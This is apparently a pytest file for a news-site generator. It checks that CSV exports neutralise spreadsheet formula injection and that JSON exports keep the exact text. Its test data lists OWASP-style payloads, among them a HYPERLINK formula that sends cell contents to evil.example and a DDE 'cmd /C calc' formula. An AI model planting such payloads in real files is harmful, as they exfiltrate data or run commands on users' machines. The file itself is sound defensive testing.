"""Spreadsheet formulas: no CSV cell starts a formula; the JSON export keeps the exact text."""

from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING

import pytest

from generator.exports import render_exports
from generator.exports.data import FORMULA_GUARD, FORMULA_TRIGGERS, neutralised
from tests.conftest import ARTICLE, ARTICLE_PATH
from tests.hostile.site import yaml_text
from tests.hostile.timing import check_promptly

if TYPE_CHECKING:
    from tests.conftest import ContentTree

# OWASP's examples and their variants: each starts with a sign a spreadsheet evaluates.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A2,"details")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tleading tab =1+1",
    "＝HYPERLINK(\"https://evil.example/\")",  # full-width equals sign
    "-2 dead in clash",  # ordinary text that starts like a formula keeps its words
]


def cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.fixture
def formulas(minimal: ContentTree) -> dict[str, bytes]:
    """The exports of a corpus whose every text field of the event and article is a formula."""
    text = ARTICLE
    for field, formula in (("title: China urges United", FORMULAS[0]),
                           ("publisher: TASS", FORMULAS[4]),
                           ("    title: China urges the US", FORMULAS[1]),
                           ("    summary: Hong Lei", FORMULAS[2])):
        start = text.index(field)
        end = text.index("\n", start)
        indent = field[: len(field) - len(field.lstrip())]
        key = field.strip().split(":")[0]
        text = text[:start] + f"{indent}{key}: {yaml_text(formula)}" + text[end:]
    text = text.replace("    tags: [diplomacy]\n",
                        f"    tags: [diplomacy]\n    places: [{yaml_text(FORMULAS[3])}]\n")
    minimal.write(ARTICLE_PATH, text)
    corpus, diagnostics = check_promptly(minimal.root)
    assert diagnostics == []
    return render_exports(corpus)


def test_no_cell_of_any_csv_starts_a_formula(formulas: dict[str, bytes]) -> None:
    csvs = [path for path in formulas if path.endswith(".csv")]
    assert len(csvs) >= 2  # the site's and the topic's
    for path in csvs:
        for row in cells(formulas[path]):
            for column, value in row.items():
                assert value[:1] not in FORMULA_TRIGGERS, (path, column, value)


def test_a_neutralised_cell_is_the_text_after_one_quote(formulas: dict[str, bytes]) -> None:
    [row] = cells(formulas["exports/all.csv"])
    assert row["title"] == FORMULA_GUARD + FORMULAS[1]
    assert row["summary"] == FORMULA_GUARD + FORMULAS[2]
    assert row["source_1_title"] == FORMULA_GUARD + FORMULAS[0]
    assert row["source_1_publisher"] == FORMULA_GUARD + FORMULAS[4]
    assert json.loads(row["places"]) == [FORMULAS[3]]  # a JSON array starts with "["


def test_the_json_export_keeps_the_exact_text(formulas: dict[str, bytes]) -> None:
    data = json.loads(formulas["exports/all.json"])
    [event] = data["events"]
    [article] = data["articles"]
    assert (event["title"], event["summary"], event["places"]) == (
        FORMULAS[1], FORMULAS[2], [FORMULAS[3]])
    assert (article["title"], article["publisher"]) == (FORMULAS[0], FORMULAS[4])


@pytest.mark.parametrize("formula", FORMULAS)
def test_every_formula_sign_is_neutralised(formula: str) -> None:
    assert neutralised(formula) == FORMULA_GUARD + formula


@pytest.mark.parametrize("text", ["China urges the US", "", "'quoted", "2016", "[\"Seoul\"]",
                                  "https://tass.com/x"])
def test_other_cells_are_left_as_written(text: str) -> None:
    assert neutralised(text) == text
